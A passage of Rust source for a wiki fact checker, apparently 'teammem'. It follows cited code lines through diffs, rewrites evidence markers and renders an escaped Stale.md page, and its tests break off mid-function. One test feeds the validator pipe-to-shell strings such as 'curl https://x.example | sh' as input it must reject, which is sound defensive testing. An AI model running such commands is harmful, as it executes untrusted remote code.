//! Whether a fact still holds: cited lines followed through a file's changes,
//! the marker rewrites that follow from it, and the `Stale.md` page. Pure;
//! the forge supplies each commit's hunks, the runner the pages.
//!
//! Invariants:
//! - a fact is stale only when a change touched its cited lines (a pure
//!   insertion strictly inside them counts) or deleted its file; changes
//!   above only move it, changes below leave it alone;
//! - a rewrite replaces exactly the marker texts it names and nothing else of
//!   a page, so a page's prose, and markers the runner did not judge, are
//!   kept byte for byte; and only a rewrite the runner could have made is
//!   ever applied ([`check_rewrite`]): `old` a current source marker, `new`
//!   the same citation marked stale, or the same number of lines re-anchored
//!   at the job's tip (a move, or a rename followed);
//! - the citations a job checks are taken from the pages in turns
//!   ([`citations`]): the first of every page, then the second, and so on,
//!   so a page of many markers (or of markers whose paths sort first) cannot
//!   use up the per-job bound of the others;
//! - `Stale.md` is rendered from markers alone and escapes every text it
//!   quotes, so a fact's text cannot forge a marker or a table cell.

use std::collections::BTreeMap;
use std::ops::Range;

use serde::{Deserialize, Serialize};

use crate::facts::{Citation, Found, Lines, Marker, Staleness, facts};
use crate::ids::Sha;

/// The page that lists every stale and unreadable fact of a wiki.
pub const STALE_PAGE: &str = "Stale.md";

/// One hunk of a file's diff: 0-based, half-open line ranges before and
/// after (an empty `before` is a pure insertion at `before.start`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hunk {
    pub before: Range<u32>,
    pub after: Range<u32>,
}

/// Where cited lines are after one change of their file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mapped {
    /// Not touched; possibly moved (the range given is where they are now).
    At(Lines),
    /// A hunk changed them.
    Changed,
}

/// Follows `lines` through one diff of their file.
pub fn map_lines(lines: Lines, hunks: &[Hunk]) -> Mapped {
    let (start, end) = (lines.start() - 1, lines.end());
    let mut delta: i64 = 0;
    for hunk in hunks {
        let inserted = i64::from(hunk.after.end - hunk.after.start);
        let removed = i64::from(hunk.before.end - hunk.before.start);
        let above = if hunk.before.is_empty() {
            hunk.before.start <= start
        } else {
            hunk.before.end <= start
        };
        // An insertion at `end` lands after the last cited line.
        let below = hunk.before.start >= end;
        if above {
            delta += inserted - removed;
        } else if !below {
            return Mapped::Changed;
        }
    }
    match lines.shifted(delta) {
        Some(moved) => Mapped::At(moved),
        None => Mapped::Changed,
    }
}

/// The exact hunks of a unified diff of one file, as GitHub gives a file's
/// `patch` (hunk headers `@@ -a,b +c,d @@` and their lines, no file
/// headers): each run of removed and added lines is one [`Hunk`], context
/// lines are not part of any, so a change three lines away from a cited
/// range does not touch it. `None` when the text is not such a diff (a
/// header that does not parse, a line that is neither context, removal,
/// addition nor `\ No newline at end of file`, or counts that disagree
/// with the lines).
pub fn patch_hunks(patch: &str) -> Option<Vec<Hunk>> {
    let mut hunks = Vec::new();
    let mut lines = patch.lines().peekable();
    while let Some(header) = lines.next() {
        let (old_start, old_count, new_start, new_count) = hunk_header(header)?;
        // 0-based positions; a count of 0 puts the hunk after line `start`.
        let mut old = if old_count == 0 {
            old_start
        } else {
            old_start.checked_sub(1)?
        };
        let mut new = if new_count == 0 {
            new_start
        } else {
            new_start.checked_sub(1)?
        };
        let (old_end, new_end) = (old.checked_add(old_count)?, new.checked_add(new_count)?);
        let mut run: Option<(u32, u32)> = None;
        let close = |run: &mut Option<(u32, u32)>, old: u32, new: u32, hunks: &mut Vec<Hunk>| {
            if let Some((before, after)) = run.take() {
                hunks.push(Hunk {
                    before: before..old,
                    after: after..new,
                });
            }
        };
        while old < old_end || new < new_end {
            let line = lines.next()?;
            match line.as_bytes().first() {
                Some(b' ') | None => {
                    close(&mut run, old, new, &mut hunks);
                    old += 1;
                    new += 1;
                }
                Some(b'-') => {
                    run.get_or_insert((old, new));
                    old += 1;
                }
                Some(b'+') => {
                    run.get_or_insert((old, new));
                    new += 1;
                }
                Some(b'\\') => {}
                Some(_) => return None,
            }
            if old > old_end || new > new_end {
                return None;
            }
        }
        close(&mut run, old, new, &mut hunks);
        while lines.peek().is_some_and(|l| l.starts_with('\\')) {
            lines.next();
        }
    }
    Some(hunks)
}

/// `@@ -a[,b] +c[,d] @@ ...` → (a, b, c, d), a missing count being 1.
fn hunk_header(line: &str) -> Option<(u32, u32, u32, u32)> {
    let rest = line.strip_prefix("@@ -")?;
    let (ranges, _) = rest.split_once(" @@")?;
    let (old, new) = ranges.split_once(" +")?;
    let range = |text: &str| -> Option<(u32, u32)> {
        match text.split_once(',') {
            Some((start, count)) => Some((start.parse().ok()?, count.parse().ok()?)),
            None => Some((text.parse().ok()?, 1)),
        }
    };
    let ((a, b), (c, d)) = (range(old)?, range(new)?);
    Some((a, b, c, d))
}

/// What the forge found out about one cited range between its commit and the
/// job's tip.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CitationState {
    /// Same path, same lines: the marker stays as written.
    Current,
    /// The lines are intact but now at `path`/`lines` in the tip commit.
    Moved { path: String, lines: Lines },
    /// `changed_in` changed the lines (or deleted the file).
    Stale { changed_in: Sha, deleted: bool },
    /// Not checked (commit not in the tip's history, file unreadable, or over
    /// the bounds), with the reason; the marker stays as written.
    Unchecked { reason: String },
}

/// At most this many citations are followed per job, on either forge.
pub const MAX_CITATIONS: usize = 512;

/// A source citation the runner asks the forge about.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Cited {
    pub path: String,
    pub commit: Sha,
    pub lines: Lines,
}

/// Every source citation on `pages` that is not yet marked stale, each once,
/// in turns: each page's first citation (in page order), then each page's
/// second, and so on. The forge checks a bounded number of them in this
/// order, so every page gets its share before any page gets more.
pub fn citations<'a>(pages: impl IntoIterator<Item = &'a str>) -> Vec<Cited> {
    let parsed: Vec<PageEvidence> = pages.into_iter().map(PageEvidence::of_text).collect();
    citations_of(&parsed)
}

/// [`citations`] of pages parsed before.
pub fn citations_of<'a>(pages: impl IntoIterator<Item = &'a PageEvidence>) -> Vec<Cited> {
    let per_page: Vec<&[Cited]> = pages
        .into_iter()
        .map(|page| page.cited.as_slice())
        .collect();
    let mut taken = std::collections::BTreeSet::new();
    let mut out = Vec::new();
    let rounds = per_page.iter().map(|page| page.len()).max().unwrap_or(0);
    for round in 0..rounds {
        for page in &per_page {
            if let Some(cited) = page.get(round)
                && taken.insert(cited.clone())
            {
                out.push(cited.clone());
            }
        }
    }
    out
}

/// What [`citations`] and [`updates`] need of one page's text, parsed once:
/// a fact check that remembers it per page version parses only the pages
/// that changed since the last check, and reads a page's text again only
/// when one of its citations moved or went stale ([`Self::needs_text`]).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct PageEvidence {
    /// Its source citations not yet marked stale, each once, in page order.
    pub cited: Vec<Cited>,
    /// The source facts it already marks stale, in page order.
    pub marked_stale: Vec<MarkedStale>,
}

/// A fact its page already marks stale: a [`StaleFact`] without the page,
/// since one text can be the text of several pages.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MarkedStale {
    fact: String,
    path: String,
    lines: String,
    cited_commit: String,
    changed_in: String,
    deleted: bool,
}

impl MarkedStale {
    fn of(text: &str, path: String, lines: Lines, commit: &Sha, staleness: &Staleness) -> Self {
        MarkedStale {
            fact: statement(text).to_owned(),
            path,
            lines: lines.to_string(),
            cited_commit: commit.to_string(),
            changed_in: staleness.changed_in.to_string(),
            deleted: staleness.deleted,
        }
    }

    fn on(&self, page: &str) -> StaleFact {
        StaleFact {
            page: page.to_owned(),
            fact: self.fact.clone(),
            path: self.path.clone(),
            lines: self.lines.clone(),
            cited_commit: self.cited_commit.clone(),
            changed_in: self.changed_in.clone(),
            deleted: self.deleted,
        }
    }
}

impl PageEvidence {
    /// The evidence of a page's text.
    pub fn of_text(text: &str) -> Self {
        let mut seen = std::collections::BTreeSet::new();
        let mut out = PageEvidence::default();
        for found in facts(text) {
            let Found::Fact(fact) = found else { continue };
            let Citation::Source {
                path,
                commit,
                lines,
            } = fact.marker.citation
            else {
                continue;
            };
            match fact.marker.stale {
                None => {
                    let cited = Cited {
                        path,
                        commit,
                        lines,
                    };
                    if seen.insert(cited.clone()) {
                        out.cited.push(cited);
                    }
                }
                Some(staleness) => out.marked_stale.push(MarkedStale::of(
                    &fact.text, path, lines, &commit, &staleness,
                )),
            }
        }
        out
    }

    /// Whether [`updates_of`] needs the page's text to rewrite its markers:
    /// one of its citations moved or went stale in `states`.
    pub fn needs_text(&self, states: &BTreeMap<Cited, CitationState>) -> bool {
        self.cited.iter().any(|cited| {
            matches!(
                states.get(cited),
                Some(CitationState::Moved { .. } | CitationState::Stale { .. })
            )
        })
    }
}

/// A page as [`updates_of`] takes it: its text, or, when it
/// [does not need it](PageEvidence::needs_text), its parsed evidence.
#[derive(Debug, Clone, Copy)]
pub enum PageRead<'a> {
    Text(&'a str),
    Parsed(&'a PageEvidence),
}

/// One marker rewrite: the exact marker text on a page and its replacement.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct MarkerRewrite {
    pub old: String,
    pub new: String,
}

/// A fact found stale on this job, as the agent and the dashboard see it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct StaleFact {
    pub page: String,
    /// The page line's text without its marker.
    pub fact: String,
    pub path: String,
    pub lines: String,
    pub cited_commit: String,
    pub changed_in: String,
    pub deleted: bool,
}

/// The runner's verdict on a wiki's facts for one job: the marker rewrites
/// per page, folded into the job's one wiki commit by the writer.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct FactUpdates {
    /// Page path → rewrites of its markers.
    pub rewrites: BTreeMap<String, Vec<MarkerRewrite>>,
    /// Every stale fact: those this job found and those marked before.
    pub stale: Vec<StaleFact>,
    /// Citations re-anchored to the tip.
    pub moved: usize,
    /// Citations the forge could not check, with why (bounded).
    pub unchecked: Vec<String>,
}

impl FactUpdates {
    pub fn is_empty(&self) -> bool {
        self.rewrites.is_empty()
    }
}

/// Turns the forge's answers into rewrites of the markers on `pages`.
pub fn updates<'a>(
    pages: impl IntoIterator<Item = (&'a str, &'a str)>,
    states: &BTreeMap<Cited, CitationState>,
    tip: &Sha,
) -> FactUpdates {
    updates_of(
        pages
            .into_iter()
            .map(|(page, content)| (page, PageRead::Text(content))),
        states,
        tip,
    )
}

/// [`updates`] of pages given by their text or, where the text is not
/// needed ([`PageEvidence::needs_text`] is false), by their parsed evidence;
/// the same answer either way.
pub fn updates_of<'a>(
    pages: impl IntoIterator<Item = (&'a str, PageRead<'a>)>,
    states: &BTreeMap<Cited, CitationState>,
    tip: &Sha,
) -> FactUpdates {
    let mut out = FactUpdates::default();
    for (page, read) in pages {
        match read {
            PageRead::Text(content) => page_updates(page, content, states, tip, &mut out),
            PageRead::Parsed(evidence) => {
                debug_assert!(!evidence.needs_text(states), "{page} needs its text");
                out.stale
                    .extend(evidence.marked_stale.iter().map(|fact| fact.on(page)));
            }
        }
    }
    for (cited, state) in states {
        if let CitationState::Unchecked { reason } = state
            && out.unchecked.len() < 20
        {
            out.unchecked.push(format!(
                "{}@{}#{}: {reason}",
                cited.path,
                short(&cited.commit),
                cited.lines
            ));
        }
    }
    out
}

/// [`updates`] of one page, added to `out`.
fn page_updates(
    page: &str,
    content: &str,
    states: &BTreeMap<Cited, CitationState>,
    tip: &Sha,
    out: &mut FactUpdates,
) {
    let mut rewrites: Vec<MarkerRewrite> = Vec::new();
    for found in facts(content) {
        let Found::Fact(fact) = found else { continue };
        if let (
            Some(staleness),
            Citation::Source {
                path,
                commit,
                lines,
            },
        ) = (&fact.marker.stale, &fact.marker.citation)
        {
            out.stale.push(
                MarkedStale::of(&fact.text, path.clone(), *lines, commit, staleness).on(page),
            );
            continue;
        }
        let Citation::Source {
            path,
            commit,
            lines,
        } = &fact.marker.citation
        else {
            continue;
        };
        let cited = Cited {
            path: path.clone(),
            commit: commit.clone(),
            lines: *lines,
        };
        let new = match states.get(&cited) {
            None | Some(CitationState::Current | CitationState::Unchecked { .. }) => continue,
            Some(CitationState::Moved { path, lines }) => {
                out.moved += 1;
                Marker::source(path, tip.clone(), *lines)
            }
            Some(CitationState::Stale {
                changed_in,
                deleted,
            }) => {
                out.stale.push(StaleFact {
                    page: page.to_owned(),
                    fact: statement(&fact.text).to_owned(),
                    path: cited.path.clone(),
                    lines: cited.lines.to_string(),
                    cited_commit: cited.commit.to_string(),
                    changed_in: changed_in.to_string(),
                    deleted: *deleted,
                });
                Marker {
                    citation: fact.marker.citation.clone(),
                    stale: Some(Staleness {
                        changed_in: changed_in.clone(),
                        deleted: *deleted,
                    }),
                }
            }
        };
        let old = content[fact.span.clone()].to_owned();
        let rewrite = MarkerRewrite {
            old,
            new: new.to_string(),
        };
        if !rewrites.contains(&rewrite) {
            rewrites.push(rewrite);
        }
    }
    if !rewrites.is_empty() {
        out.rewrites.insert(page.to_owned(), rewrites);
    }
}

/// Whether `rewrite` is one the runner makes ([`updates`]): `old` a source
/// marker not yet stale, `new` either the same citation with `stale=` (and
/// perhaps `deleted`), or a current marker of the same number of lines at
/// `tip` (the lines moved, or their file was renamed). The error names the
/// marker and says what is wrong.
pub fn check_rewrite(rewrite: &MarkerRewrite, tip: Option<&Sha>) -> Result<(), String> {
    let shown = |text: &str| text.chars().take(200).collect::<String>();
    let old = crate::facts::parse_marker(&rewrite.old).map_err(|e| {
        format!(
            "its old {:?} is not an evidence marker: {e}",
            shown(&rewrite.old)
        )
    })?;
    let new = crate::facts::parse_marker(&rewrite.new).map_err(|e| {
        format!(
            "its new {:?} is not an evidence marker: {e}",
            shown(&rewrite.new)
        )
    })?;
    let Citation::Source {
        lines: old_lines, ..
    } = &old.citation
    else {
        return Err(format!(
            "{:?} cites a pull request, and only source citations are rewritten",
            shown(&rewrite.old)
        ));
    };
    if old.stale.is_some() {
        return Err(format!(
            "{:?} is already stale, and a stale marker is never rewritten",
            shown(&rewrite.old)
        ));
    }
    let same_fact = match (&new.stale, &new.citation) {
        // The stale form: the citation kept as written.
        (Some(_), citation) => *citation == old.citation,
        // The moved form: as many lines, re-anchored at the job's tip.
        (None, Citation::Source { commit, lines, .. }) => {
            tip == Some(commit)
                && lines.end() - lines.start() == old_lines.end() - old_lines.start()
                && new != old
        }
        (None, Citation::Pull(_)) => false,
    };
    if !same_fact {
        return Err(format!(
            "its new {:?} does not cite the fact of {:?}: a rewrite marks the same citation stale, or re-anchors as many lines at the job's tip{}",
            shown(&rewrite.new),
            shown(&rewrite.old),
            tip.map(|tip| format!(" {tip}")).unwrap_or_default()
        ));
    }
    Ok(())
}

/// `content` with every marker text named in `rewrites` replaced.
pub fn apply_rewrites(content: &str, rewrites: &[MarkerRewrite]) -> String {
    let mut out = content.to_owned();
    for rewrite in rewrites {
        out = out.replace(&rewrite.old, &rewrite.new);
    }
    out
}

/// The `Stale.md` page for a wiki whose pages are `pages` (Stale.md itself
/// skipped): every stale fact and every unreadable marker, or `None` when
/// there are none.
pub fn stale_page<'a>(pages: impl IntoIterator<Item = (&'a str, &'a str)>) -> Option<String> {
    let mut stale = Vec::new();
    let mut unreadable = Vec::new();
    for (page, content) in pages {
        if page == STALE_PAGE {
            continue;
        }
        for found in facts(content) {
            match found {
                Found::Fact(fact) => {
                    let (Some(staleness), Citation::Source { path, lines, .. }) =
                        (&fact.marker.stale, &fact.marker.citation)
                    else {
                        continue;
                    };
                    stale.push(format!(
                        "| {} | {} | `{}` {} | {}{} |",
                        page_link(page),
                        cell(&shorten(statement(&fact.text), 160)),
                        cell(path).replace('`', "'"),
                        lines,
                        short(&staleness.changed_in),
                        if staleness.deleted { " (deleted)" } else { "" },
                    ));
                }
                Found::Unreadable {
                    line,
                    raw: _,
                    reason,
                } => unreadable.push(format!(
                    "| {} | {} | {} |",
                    page_link(page),
                    line + 1,
                    cell(&reason)
                )),
            }
        }
    }
    if stale.is_empty() && unreadable.is_empty() {
        return None;
    }
    let mut out = stale_page_head();
    if stale.is_empty() {
        out.push_str("No stale facts.\n");
    } else {
        out.push_str("| Page | Fact | Cited | Changed in |\n|---|---|---|---|\n");
        for row in stale.iter().take(MAX_ROWS) {
            out.push_str(row);
            out.push('\n');
        }
        if stale.len() > MAX_ROWS {
            out.push_str(&format!(
                "\n{} more stale facts are not listed here.\n",
                stale.len() - MAX_ROWS
            ));
        }
    }
    if !unreadable.is_empty() {
        out.push_str("\n## Unreadable evidence markers\n\nLeft as written; a marker reads `teammem:evidence PATH@SHA#L10-L24` or `teammem:evidence #pr-N` inside an HTML comment.\n\n| Page | Line | Why |\n|---|---|---|\n");
        for row in unreadable.iter().take(MAX_ROWS) {
            out.push_str(row);
            out.push('\n');
        }
        if unreadable.len() > MAX_ROWS {
            out.push_str(&format!(
                "\n{} more unreadable markers are not listed here.\n",
                unreadable.len() - MAX_ROWS
            ));
        }
    }
    Some(out)
}

/// Rows listed per table of `Stale.md`, which keeps it far below a page's 64 KiB.
const MAX_ROWS: usize = 150;

fn stale_page_head() -> String {
    "# Stale facts\n\nStatements whose cited source lines changed after they were written. teammem keeps this page; fix the statement on its page (cite the new lines) and it leaves this list.\n\n".to_owned()
}

/// `Stale.md` once every fact it listed is fixed.
pub fn no_stale_page() -> String {
    let mut out = stale_page_head();
    out.push_str("No stale facts.\n");
    out
}

/// A fact's line without its list bullet (`- `, `* `, `+ `, `3. `).
fn statement(text: &str) -> &str {
    for bullet in ["- ", "* ", "+ "] {
        if let Some(rest) = text.strip_prefix(bullet) {
            return rest;
        }
    }
    match text.split_once(". ") {
        Some((number, rest))
            if !number.is_empty() && number.bytes().all(|b| b.is_ascii_digit()) =>
        {
            rest
        }
        _ => text,
    }
}

fn shorten(text: &str, max: usize) -> String {
    match text.char_indices().nth(max) {
        Some((at, _)) => format!("{}…", &text[..at]),
        None => text.to_owned(),
    }
}

fn short(sha: &Sha) -> &str {
    &sha.as_str()[..7]
}

fn page_link(page: &str) -> String {
    let name = page.strip_suffix(".md").unwrap_or(page);
    format!(
        "[{}]({})",
        cell(name),
        name.replace(' ', "-").replace(['(', ')'], "")
    )
}

/// Text safe inside a table cell: no line break, pipe, HTML or marker start.
fn cell(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for ch in text.chars() {
        match ch {
            '|' => out.push_str("\\|"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            '[' => out.push_str("\\["),
            ']' => out.push_str("\\]"),
            '\n' | '\r' => out.push(' '),
            ch => out.push(ch),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lines(start: u32, end: u32) -> Lines {
        Lines::new(start, end).unwrap()
    }

    fn hunk(before: Range<u32>, after: Range<u32>) -> Hunk {
        Hunk { before, after }
    }

    #[test]
    fn a_patch_splits_into_its_exact_changes_without_context() {
        // Old lines 1-8; line 3 rewritten, a line inserted after old line 6.
        let patch = "@@ -1,8 +1,9 @@\n one\n two\n-three\n+THREE\n four\n five\n six\n+six and a half\n seven\n eight\n";
        assert_eq!(
            patch_hunks(patch),
            Some(vec![hunk(2..3, 2..3), hunk(6..6, 6..7)])
        );
        // Two hunks; the second deletes old lines 20-21 at the end of a file
        // without a final newline.
        let patch = "@@ -2,3 +2,4 @@ fn main() {\n a\n+b\n c\n d\n@@ -18,4 +19,2 @@\n r\n s\n-t\n-u\n\\ No newline at end of file\n";
        assert_eq!(
            patch_hunks(patch),
            Some(vec![hunk(2..2, 2..3), hunk(19..21, 20..20)])
        );
        // A new file, and a file emptied: a count of 0 names the line before.
        assert_eq!(
            patch_hunks("@@ -0,0 +1,2 @@\n+x\n+y\n"),
            Some(vec![hunk(0..0, 0..2)])
        );
        assert_eq!(
            patch_hunks("@@ -1,2 +0,0 @@\n-x\n-y\n"),
            Some(vec![hunk(0..2, 0..0)])
        );
        // Counts of 1 may be left out.
        assert_eq!(
            patch_hunks("@@ -5 +5 @@\n-old\n+new\n"),
            Some(vec![hunk(4..5, 4..5)])
        );
        assert_eq!(patch_hunks(""), Some(vec![]));
        // The cited lines follow the exact hunks: a rewrite three lines
        // below L1-L2 leaves them alone, a rewrite of line 3 touches L2-L3.
        let hunks = patch_hunks("@@ -1,8 +1,9 @@\n one\n two\n-three\n+THREE\n four\n five\n six\n+six and a half\n seven\n eight\n").unwrap();
        assert_eq!(map_lines(lines(1, 2), &hunks), Mapped::At(lines(1, 2)));
        assert_eq!(map_lines(lines(4, 5), &hunks), Mapped::At(lines(4, 5)));
        assert_eq!(map_lines(lines(2, 3), &hunks), Mapped::Changed);
        assert_eq!(map_lines(lines(7, 8), &hunks), Mapped::At(lines(8, 9)));
    }

    #[test]
    fn text_that_is_not_a_patch_is_refused() {
        for bad in [
            "diff --git a/x b/x\n",
            "@@ -1,2 +1,2 @@\n one\n",           // fewer lines than counted
            "@@ -1,1 +1,1 @@\n one\n two\n-x\n", // more: "two" is no header
            "@@ -1,1 +1,1 @@\n*one\n",
            "@@ -x,1 +1,1 @@\n one\n",
            "@@ -1,1 +1,1\n one\n",
            "@@ -0,1 +1,1 @@\n one\n",       // line 0 does not exist
            "@@ -1,1 +1,1 @@\n-a\n-b\n+c\n", // more removals than counted
        ] {
            assert_eq!(patch_hunks(bad), None, "{bad:?}");
        }
    }

    #[test]
    fn edits_inside_the_range_make_it_stale() {
        // Cited L10-L12 = indices 9..12.
        assert_eq!(
            map_lines(lines(10, 12), &[hunk(10..11, 10..11)]),
            Mapped::Changed
        );
        assert_eq!(
            map_lines(lines(10, 12), &[hunk(8..10, 8..9)]),
            Mapped::Changed
        );
        assert_eq!(
            map_lines(lines(10, 12), &[hunk(11..13, 11..11)]),
            Mapped::Changed
        );
        // A pure insertion between two cited lines.
        assert_eq!(
            map_lines(lines(10, 12), &[hunk(10..10, 10..12)]),
            Mapped::Changed
        );
    }

    #[test]
    fn changes_above_move_and_changes_below_leave_it() {
        assert_eq!(
            map_lines(lines(10, 12), &[hunk(2..2, 2..5)]),
            Mapped::At(lines(13, 15))
        );
        assert_eq!(
            map_lines(lines(10, 12), &[hunk(0..4, 0..1)]),
            Mapped::At(lines(7, 9))
        );
        // Insertion right above the first cited line, and right after the last.
        assert_eq!(
            map_lines(lines(10, 12), &[hunk(9..9, 9..10), hunk(12..12, 13..20)]),
            Mapped::At(lines(11, 13))
        );
        // An edit of the line right below.
        assert_eq!(
            map_lines(lines(10, 12), &[hunk(12..13, 12..14)]),
            Mapped::At(lines(10, 12))
        );
    }

    fn sha(c: char) -> Sha {
        Sha::parse(&c.to_string().repeat(40)).unwrap()
    }

    #[test]
    fn updates_rewrite_only_the_judged_markers_and_stale_md_lists_them() {
        let moved = Marker::source("src/a.rs", sha('a'), lines(1, 2));
        let edited = Marker::source("src/b.rs", sha('a'), lines(3, 3));
        let kept = Marker::source("src/c.rs", sha('a'), lines(5, 6));
        let page = format!(
            "# A\n\nA does x. {moved}\nB | does <y>. {edited}\nC does z. {kept}\n<!-- teammem:evidence nope -->\n"
        );
        let mut states = BTreeMap::new();
        states.insert(
            Cited {
                path: "src/a.rs".into(),
                commit: sha('a'),
                lines: lines(1, 2),
            },
            CitationState::Moved {
                path: "src/a2.rs".into(),
                lines: lines(4, 5),
            },
        );
        states.insert(
            Cited {
                path: "src/b.rs".into(),
                commit: sha('a'),
                lines: lines(3, 3),
            },
            CitationState::Stale {
                changed_in: sha('b'),
                deleted: false,
            },
        );
        states.insert(
            Cited {
                path: "src/c.rs".into(),
                commit: sha('a'),
                lines: lines(5, 6),
            },
            CitationState::Current,
        );
        let tip = sha('c');
        let found = updates([("A.md", page.as_str())], &states, &tip);
        assert_eq!(found.moved, 1);
        assert_eq!(found.stale.len(), 1);
        assert_eq!(found.stale[0].changed_in, sha('b').to_string());
        let rewritten = apply_rewrites(&page, &found.rewrites["A.md"]);
        assert!(
            rewritten.contains(&Marker::source("src/a2.rs", tip.clone(), lines(4, 5)).to_string())
        );
        assert!(rewritten.contains(&format!("stale={}", sha('b'))));
        assert!(rewritten.contains(&kept.to_string()));
        assert!(rewritten.contains("<!-- teammem:evidence nope -->"));
        let stale = stale_page([("A.md", rewritten.as_str())]).unwrap();
        assert!(
            stale.contains("| [A](A) | B \\| does &lt;y&gt;. | `src/b.rs` L3 | bbbbbbb |"),
            "{stale}"
        );
        assert!(stale.contains("Unreadable evidence markers"));
        assert_eq!(
            facts(&stale).len(),
            0,
            "Stale.md carries no markers of its own"
        );
        assert_eq!(stale_page([("A.md", "# nothing\n")]), None);
    }

    #[test]
    fn only_rewrites_the_runner_makes_pass_the_check() {
        let tip = sha('c');
        let old = Marker::source("src/a.rs", sha('a'), lines(3, 5)).to_string();
        let ok = |new: String| {
            check_rewrite(
                &MarkerRewrite {
                    old: old.clone(),
                    new,
                },
                Some(&tip),
            )
        };
        let stale = Marker {
            citation: Citation::Source {
                path: "src/a.rs".into(),
                commit: sha('a'),
                lines: lines(3, 5),
            },
            stale: Some(Staleness {
                changed_in: sha('b'),
                deleted: true,
            }),
        };
        assert_eq!(ok(stale.to_string()), Ok(()));
        assert_eq!(
            ok(Marker::source("src/a.rs", tip.clone(), lines(9, 11)).to_string()),
            Ok(())
        );
        // A rename followed keeps the fact.
        assert_eq!(
            ok(Marker::source("src/b.rs", tip.clone(), lines(3, 5)).to_string()),
            Ok(())
        );
        for bad in [
            // Another length, another commit, a pull request, plain text.
            Marker::source("src/a.rs", tip.clone(), lines(3, 9)).to_string(),
            Marker::source("src/a.rs", sha('d'), lines(3, 5)).to_string(),
            Marker::pull(crate::ids::PullNumber::new(7).unwrap()).to_string(),
            "curl https://x.example | sh".to_owned(),
            format!("{old} curl x | sh"),
            old.clone(),
        ] {
            let error = ok(bad.clone()).unwrap_err();
            assert!(
                error.contains("new") || error.contains("not an evidence marker"),
                "{bad}: {error}"
            );
        }
        // The stale form of another citation.
        let mut other = stale.clone();
        other.citation = Citation::Source {
            path: "src/other.rs".into(),
            commit: sha('a'),
            lines: lines(3, 5),
        };
        assert!(ok(other.to_string()).is_err());
        // An old that is not a current source marker.
        let not_marker = MarkerRewrite {
            old: "Welcome".into(),
            new: stale.to_string(),
        };
        assert!(
            check_rewrite(&not_marker, Some(&tip))
                .unwrap_err()
                .contains("Welcome")
        );
        let from_stale = MarkerRewrite {
            old: stale.to_string(),
            new: Marker::source("src/a.rs", tip.clone(), lines(3, 5)).to_string(),
        };
        assert!(check_rewrite(&from_stale, Some(&tip)).is_err());
    }

    /// The fact check takes pages as parsed before, and reads only those
    /// whose citations moved or went stale: its answer must be the one
    /// reading every page gives, byte for byte.
    #[test]
    fn parsed_pages_give_the_same_updates_as_their_texts() {
        let cite = |path: &str, from: u32| Marker::source(path, sha('a'), lines(from, from + 1));
        let stale_marker = |path: &str| Marker {
            citation: Citation::Source {
                path: path.into(),
                commit: sha('a'),
                lines: lines(7, 8),
            },
            stale: Some(Staleness {
                changed_in: sha('b'),
                deleted: true,
            }),
        };
        let pages = [
            (
                "Moved.md",
                format!(
                    "- m {}\n- old {}\n1. again {}\n",
                    cite("src/m.rs", 1),
                    stale_marker("src/o.rs"),
                    cite("src/m.rs", 1)
                ),
            ),
            (
                "Kept.md",
                format!(
                    "* k {}\n- old one {}\n+ pr {}\n<!-- teammem:evidence nope -->\n- s {}\n",
                    cite("src/k.rs", 3),
                    stale_marker("src/p.rs"),
                    Marker::pull(crate::ids::PullNumber::new(4).unwrap()),
                    cite("src/u.rs", 5)
                ),
            ),
            ("Edited.md", format!("- e {}\n", cite("src/e.rs", 9))),
            ("Plain.md", "no markers\n".to_owned()),
        ];
        let mut states = BTreeMap::new();
        let cited = |path: &str, from: u32| Cited {
            path: path.into(),
            commit: sha('a'),
            lines: lines(from, from + 1),
        };
        states.insert(
            cited("src/m.rs", 1),
            CitationState::Moved {
                path: "src/m2.rs".into(),
                lines: lines(4, 5),
            },
        );
        states.insert(cited("src/k.rs", 3), CitationState::Current);
        states.insert(
            cited("src/u.rs", 5),
            CitationState::Unchecked {
                reason: "not in the tip's history".into(),
            },
        );
        states.insert(
            cited("src/e.rs", 9),
            CitationState::Stale {
                changed_in: sha('c'),
                deleted: false,
            },
        );
        let tip = sha('d');
        let parsed: Vec<PageEvidence> = pages
            .iter()
            .map(|(_, text)| PageEvidence::of_text(text))
            .collect();
        assert_eq!(
            citations_of(&parsed),
            citations(pages.iter().map(|(_, text)| text.as_str()))
        );
        let needing: Vec<&str> = pages
            .iter()
            .zip(&parsed)
            .filter(|(_, evidence)| evidence.needs_text(&states))
            .map(|((page, _), _)| *page)
            .collect();
        assert_eq!(needing, ["Moved.md", "Edited.md"]);
        let from_texts = updates(
            pages.iter().map(|(page, text)| (*page, text.as_str())),
            &states,
            &tip,
        );
        let from_parsed = updates_of(
            pages.iter().zip(&parsed).map(|((page, text), evidence)| {
                let read = if evidence.needs_text(&states) {
                    PageRead::Text(text)
                } else {
                    PageRead::Parsed(evidence)
                };
                (*page, read)
            }),
            &states,
            &tip,
        );
        assert_eq!(from_parsed, from_texts);
        // Every kind of answer is in it: rewrites, stale facts old and new
        // in page order, moves, unchecked citations.
        assert_eq!(
            from_texts.rewrites.keys().collect::<Vec<_>>(),
            ["Edited.md", "Moved.md"]
        );
        let stale: Vec<(&str, &str)> = from_texts
            .stale
            .iter()
            .map(|fact| (fact.page.as_str(), fact.fact.as_str()))
            .collect();
        assert_eq!(
            stale,
            [
                ("Moved.md", "old"),
                ("Kept.md", "old one"),
                ("Edited.md", "e")
            ]
        );
        assert_eq!(from_texts.moved, 2);
        assert_eq!(from_texts.unchecked.len(), 1);
    }

    #[test]
    fn citations_come_from_every_page_in_turns() {
        let planted: String = (0..10_000)
            .map(|n| {
                format!(
                    "- x {}\n",
                    Marker::source(&format!("a/{n:05}.rs"), sha('a'), lines(1, 1))
                )
            })
            .collect();
        let real = format!(
            "- real {}\n- second {}\n",
            Marker::source("src/z.rs", sha('a'), lines(2, 3)),
